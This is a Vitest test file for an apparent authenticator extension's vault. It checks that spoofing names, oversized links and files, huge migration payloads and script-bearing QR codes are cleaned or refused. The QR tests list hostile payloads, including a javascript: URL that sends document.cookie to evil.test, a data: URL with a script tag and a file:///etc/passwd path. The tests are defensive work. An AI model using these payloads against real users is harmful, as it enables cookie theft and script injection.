// Hostile input: absurdly long or spoofing names, oversized links and files, QR codes carrying scripts, and
// migration payloads with thousands of entries. Each gets a clear error (or is cleaned), fast, and nothing
// bad is written.
import { afterEach, describe, expect, it } from 'vitest';
import { MAX_LABEL_LENGTH } from '../../lib/otp/label';
import { decodeMigrationUri, MAX_MIGRATION_ACCOUNTS } from '../../lib/otp/migration';
import { parseOtpauthUri } from '../../lib/otp/uri';
import { classifyQrText } from '../../lib/enroll/classify';
import { readImport } from '../../lib/backup/importers';
import { importRequestFor } from '../unit/backup/import-requests';
import type { AccountView } from '../../lib/messaging';
import { snapshotDb, totpData } from '../unit/vault/helpers';
import { vaultEnv, type VaultEnv } from './vault-env';

const PASSWORD = 'correct horse battery staple';
// Characters that must never reach a label: C0/C1 controls, bidi overrides/isolates, zero-width, BOM.
const SPOOFING = '\u0000\u0007\u001b\u007f\u0085\u202e\u202d\u2066\u2067\u2068\u2069\u200b\u200e\u200f\ufeff';
const UNSAFE_IN_LABEL = /[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u;

const open: VaultEnv[] = [];
afterEach(() => {
  for (const env of open.splice(0)) env.db.close();
});

async function unlockedVault(): Promise<VaultEnv> {
  const env = await vaultEnv();
  open.push(env);
  await env.ok('createVault', { password: PASSWORD });
  return env;
}

/** Elapsed ms of `work`. */
async function timed<T>(work: () => T | Promise<T>): Promise<{ value: T; ms: number }> {
  const started = performance.now();
  const value = await work();
  return { value, ms: performance.now() - started };
}

/** Protobuf varint + length-delimited field, enough to build a Google migration payload by hand. */
function varint(n: number): number[] {
  const out: number[] = [];
  while (n > 0x7f) {
    out.push((n & 0x7f) | 0x80);
    n >>>= 7;
  }
  out.push(n);
  return out;
}
function field(tag: number, bytes: number[]): number[] {
  return [(tag << 3) | 2, ...varint(bytes.length), ...bytes];
}
function migrationUri(entries: number): string {
  const payload: number[] = [];
  for (let i = 0; i < entries; i++) {
    const secret = Array.from({ length: 10 }, (_, k) => (i * 31 + k) & 0xff);
    const name = Array.from(new TextEncoder().encode(`user${i}`));
    // OtpParameters: 1 secret, 2 name, 6 type = 2 (TOTP)
    payload.push(...field(1, [...field(1, secret), ...field(2, name), 0x30, 2]));
  }
  const base64 = Buffer.from(Uint8Array.from(payload)).toString('base64');
  return `otpauth-migration://offline?data=${encodeURIComponent(base64)}`;
}

describe('names', () => {
  it('a 10,000-character issuer full of control and bidi characters is stored cleaned and capped', async () => {
    const env = await unlockedVault();
    const issuer = `${SPOOFING}Ali${'\u202e'}yun${SPOOFING}`.padEnd(10_000, `x${SPOOFING}`);
    const account = `alice${'\u202e'}moc.evil@${'\u0000'}`.repeat(400);
    await env.ok('addAccount', {
      data: totpData({ issuer, account }),
      allowedSites: [],
      enrolledOrigin: '',
    });
    const { accounts }: { accounts: AccountView[] } = await env.ok('listAccounts', {});
    const stored = accounts[0]!;
    for (const label of [stored.issuer, stored.account]) {
      expect(Array.from(label).length).toBeLessThanOrEqual(MAX_LABEL_LENGTH);
      expect(label).not.toMatch(UNSAFE_IN_LABEL);
    }
    expect(stored.issuer.startsWith('Aliyun')).toBe(true);
  });

  it('a rename to a spoofing name is cleaned the same way', async () => {
    const env = await unlockedVault();
    const { id } = await env.ok('addAccount', { data: totpData(), allowedSites: [], enrolledOrigin: '' });
    await env.ok('updateAccount', { id, patch: { issuer: `Git\u202eHub${SPOOFING}`.repeat(2_000) } });
    const { accounts }: { accounts: AccountView[] } = await env.ok('listAccounts', {});
    expect(accounts[0]!.issuer).not.toMatch(UNSAFE_IN_LABEL);
    expect(Array.from(accounts[0]!.issuer).length).toBeLessThanOrEqual(MAX_LABEL_LENGTH);
  });

  it('an otpauth link with an RLO-laden issuer parses to a clean name', () => {
    const parsed = parseOtpauthUri(
      `otpauth://totp/${encodeURIComponent('Pay\u202elaP')}:bob?secret=JBSWY3DPEHPK3PXP&issuer=${encodeURIComponent('Pay\u202elaP\u0007')}`,
    );
    expect(parsed.ok && parsed.account.issuer).toBe('PaylaP');
  });
});

describe('oversized input', () => {
  it('a 100 kB otpauth link is refused at once with a clear error', async () => {
    const uri = `otpauth://totp/Aliyun:alice?secret=JBSWY3DPEHPK3PXP&issuer=${'A'.repeat(100 * 1024)}`;
    const { value, ms } = await timed(() => parseOtpauthUri(uri));
    expect(value).toMatchObject({
      ok: false,
      error: { reason: 'too-long', message: 'The link is longer than 4096 characters.' },
    });
    expect(ms).toBeLessThan(50);
  });

  it('a migration payload with 10,000 entries is refused quickly and adds nothing', async () => {
    const uri = migrationUri(10_000);
    const { value, ms } = await timed(() => decodeMigrationUri(uri));
    expect(value).toMatchObject({ ok: false, error: { reason: 'too-many-accounts' } });
    expect(value.ok ? '' : value.error.message).toBe(
      `The export has more than ${MAX_MIGRATION_ACCOUNTS} accounts.`,
    );
    expect(ms).toBeLessThan(1_000);
    // The same payload through the import path: refused as a whole, the vault untouched.
    const env = await unlockedVault();
    const before = await snapshotDb(env.db);
    // The import reports the line as unusable, with the same reason, and adds nothing.
    const request = await importRequestFor(uri);
    expect(await env.ok('previewImport', request)).toMatchObject({
      add: [],
      invalid: [{ at: { kind: 'line', n: 1 }, code: 'migration-too-many' }],
    });
    expect(await env.ok('commitImport', request)).toEqual({ added: 0, duplicates: 0, invalid: 1 });
    expect(await snapshotDb(env.db)).toEqual(before);
  });

  it('a 50 MB import file is refused before it is parsed, with a clear error, and nothing is written', async () => {
    const text = `otpauth://totp/A:b?secret=JBSWY3DPEHPK3PXP\n`.repeat((50 * 1024 * 1024) / 43);
    expect(text.length).toBeGreaterThan(49 * 1024 * 1024);
    const read = await timed(() => readImport(text, { crypto: globalThis.crypto }));
    expect(read.value).toMatchObject({ ok: false, error: { code: 'too-large' } });
    expect(read.ms).toBeLessThan(200);
    // Files are read in the options page, so a refused file never reaches the background; what does reach
    // it is the accounts, capped at 10,000 and refused as a whole beyond that, fast.
    const env = await unlockedVault();
    const before = await snapshotDb(env.db);
    const data = totpData({ issuer: 'A', account: 'b', secret: 'JBSWY3DPEHPK3PXP' });
    const request = { format: 'otpauth-text' as const, accounts: Array(10_001).fill({ data }), invalid: [] };
    for (const type of ['previewImport', 'commitImport'] as const) {
      const { value: reply, ms } = await timed(() => env.call(type, request));
      expect(reply, type).toEqual({
        ok: false,
        error: { code: 'too-large', message: 'An import holds at most 10000 accounts.' },
      });
      expect(ms, type).toBeLessThan(500);
    }
    expect(await snapshotDb(env.db)).toEqual(before);
  });
});

describe('QR codes that are not authenticator keys', () => {
  it.each([
    'javascript:alert(document.cookie)',
    'JavaScript:alert(1)',
    '  javascript:fetch("https://evil.test/"+document.cookie)',
    'javascript://otpauth/%0Aalert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'blob:https://evil.test/0a1b',
    'file:///etc/passwd',
  ])('%s is rejected and never treated as a link to open', (text) => {
    const result = classifyQrText(text);
    expect(result.accepted).toBe(false);
    expect(result).toMatchObject({ kind: 'url', reason: expect.stringMatching(/script or embedded data/) });
  });

  it('an otpauth-looking text without the // authority is refused, not guessed', () => {
    expect(classifyQrText('otpauth:javascript:alert(1)')).toMatchObject({ accepted: false, kind: 'url' });
  });
});
